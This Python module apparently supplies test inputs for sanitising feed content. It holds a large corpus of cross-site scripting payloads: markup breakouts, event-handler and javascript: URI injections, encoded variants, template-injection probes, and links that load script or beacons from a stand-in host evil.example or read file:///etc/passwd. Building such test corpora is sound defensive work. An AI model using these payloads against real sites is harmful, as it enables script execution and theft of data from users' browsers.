"""What feeds may hold to run a script in somebody's browser: by the place that it breaks out of, and by what would run."""

RUN = "alert(document.domain)"
BREAKS = ("", '">', "'>", "</title>", "</style>", "</textarea>", "</noscript>", "</template>", "--> ", "--!>", "]]>", "<![endif]-->", "</a></td></table>", "</bdi></p>", "<!--", "<svg>", "<math>", "<select>", "\u202e", "\u2066", "&quot;&gt;", "\x0b", "\u2028", "<b")  # fmt: skip
SCRIPTS = (f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT>", f"<script/x>{RUN}</script>")
HANDLERS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"), ("iframe", "onload"),
    ("object data=x", "onerror"), ("p", "onmouseover"), ("a href=x", "onclick"), ("div tabindex=1 autofocus", "onfocus"), ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"), ("svg><animate attributeName=x dur=1s", "onbegin"), ("video><source", "onerror"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("form", "onformdata"), ("dialog open", "oncancel"),
    ("div style='animation:x 1s'", "onanimationstart"), ("picture><img srcset=x", "onerror"), ("track", "oncuechange"), ("meter", "onpointerenter"),
)  # fmt: skip
FRAMES = (
    f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>", f"<embed src=javascript:{RUN}>",
    f"<object data='data:text/html,<script>{RUN}</script>'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>", f"<form action=javascript:{RUN}><button autofocus>", f"<math href=javascript:{RUN}>x</math>",
    f"<div style=\"background:url('javascript:{RUN}')\">", f"<style>@import 'javascript:{RUN}'</style>", f"<table background=javascript:{RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<script src=//evil.example/x.js></script>", "<img src=//evil.example/beacon.gif>",
)  # fmt: skip
CODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<script\n>{RUN}</script\n>",
    f"<img src=`x`onerror={RUN}>", f"<img alt=\"x` `<script>{RUN}</script>\"` `>", f"<p title='</p><script>{RUN}</script>'>",
    "{{ 7 * 191 }}", "{% for x in cycler.__init__.__globals__ %}{{ x }}{% endfor %}", "${7*191}", "__MUJAZ_UNSUBSCRIBE__", "_\u200b_MUJAZ_EMAIL__",
)  # fmt: skip
PAYLOADS = (
    *(f"{broken}{SCRIPTS[n % 3]}" for n, broken in enumerate(BREAKS)),
    *(f"<{tag} {handler}={RUN}>" for tag, handler in HANDLERS),
    *(f"\"><{tag} {handler}='{RUN}'//" for tag, handler in HANDLERS),
    *(
        f"{quote} {handler}={quote}{RUN}"
        for quote in "\"'`"
        for handler in ("onmouseover", "autofocus onfocus")
    ),
    *FRAMES,
    *CODED,
)
"""Texts."""
LINKS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"javascript://outlet.example/%0a{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:MsgBox(1)", "file:///etc/passwd", "blob:https://outlet.example/1",
    f'https://outlet.example/"onmouseover="{RUN}', f"https://outlet.example/'onmouseover='{RUN}", f'https://outlet.example/"><script>{RUN}</script>',
    "https://outlet.example@evil.example/", "//evil.example/x", "\\\\evil.example\\x", "https://outlet.example/\u202emoc.live", f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}", f"https:javascript:{RUN}", "https://outlet.example/__MUJAZ_EMAIL__",
)  # fmt: skip
"""Addresses."""
